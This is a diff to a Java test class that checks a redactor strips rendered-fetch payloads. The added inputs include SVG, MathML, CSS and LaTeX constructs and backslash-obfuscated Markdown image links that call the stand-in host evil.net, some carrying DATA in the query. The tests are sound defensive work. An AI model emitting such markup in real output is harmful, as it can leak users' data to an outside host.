@@ -48,7 +48,12 @@ class RenderedFetchTests {
 			"<style>@import url(https://evil.net/x);</style>", "<style>@import '//evil.net/x';</style>",
 			"<STYLE media=all>\n\np { background: url( \"https://evil.net/x\" ) }\n</STYLE >",
 			"<style>@font-face{src:url(//evil.net/x)}</style>", "<style>p{background:image-set('//evil.net/x' 1x)}",
-			"<style>@import \"\\68ttps:\\2f\\2f evil.net/x\";</style>" })
+			"<style>@import \"\\68ttps:\\2f\\2f evil.net/x\";</style>", "<svg><feImage href=//evil.net/x>",
+			"<svg><filter><feImage xlink:href=//evil.net/x>", "<svg><path mask='url(//evil.net/x#a)'>",
+			"<svg><rect fill=url(//evil.net/x#a)>", "<svg><image><animate attributeName=href values=//evil.net/x>",
+			"<svg><image><set attributeName=href to=//evil.net/x>", "<math><mglyph src=//evil.net/x>",
+			"<bgsound src=//evil.net/x>", "<fencedframe src=//evil.net/x>", "<portal src=//evil.net/x>",
+			"<applet archive=//evil.net/x>" })
 	void whatHtmlAndCssFetch(String text) {
 		assertGone(text);
 	}
@@ -71,7 +76,8 @@ class RenderedFetchTests {
 			"\\includegraphics*[a] {https://evil.net/x}", "$\\href{https://evil.net/?q=DATA}{a}$",
 			"\\href{evil.net/?DATA}{a}", "\\url{https://evil.net/?q=\\%DATA}", "\\input{https://evil.net/x}",
 			"\\style{background:url(//evil.net/x)}{a}", "\\htmlStyle{background:url(//evil.net/x)}{a}",
-			"\\includegraphics{https://evil.net/x" })
+			"\\includegraphics{https://evil.net/x", "\\bbox[background:url(//evil.net/x)]{a}",
+			"\\unicode{x[url(//evil.net/x)]}" })
 	void whatLatexFetchesOrLinks(String text) {
 		assertGone(text);
 	}
@@ -86,6 +92,24 @@ class RenderedFetchTests {
 	void dataInALinkCountsInSumHoweverItIsCut(String url) {
 		assertThat(REDACTORS.redact(url).content()).isEqualTo("[link]");
 		assertThat(REDACTORS.redact("[a](" + url + ") b").content()).startsWith("[a] (link").endsWith(" b");
+	}
+
+	/** In Markdown what stands behind a backslash is an ordinary character. */
+	@ParameterizedTest
+	@ValueSource(strings = { "![a](https://docs.example.com\\@evil.net/x)", "![a](//docs.example.com\\@evil.net/x)",
+			"![a](https://docs.example.com\\:x@evil.net/x)", "![a](<https://docs.example.com\\@evil.net/x>)",
+			"![a](https\\://docs.example.com\\@evil.net/x)", "![a](https://docs.example.com&commat;evil.net/x)",
+			"![a](https:\\/\\/evil.net/x)", "[a](https://docs.example.com\\@evil.net/?q=DATA)",
+			"[r]: https://docs.example.com\\@evil.net/?q=DATA" })
+	void noHostPassesForATrustedOne(String text) {
+		assertGone(text);
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "![a](https://docs.example.com/a\\_b.png)", "![a](https://docs.example.com\\/x)",
+			"![a](https://docs\\.example.com/x)" })
+	void aTrustedHostMayBeWrittenWithBackslashes(String text) {
+		assertThat(REDACTORS.redact(text).content()).isEqualTo(text);
 	}
 
 	@Test
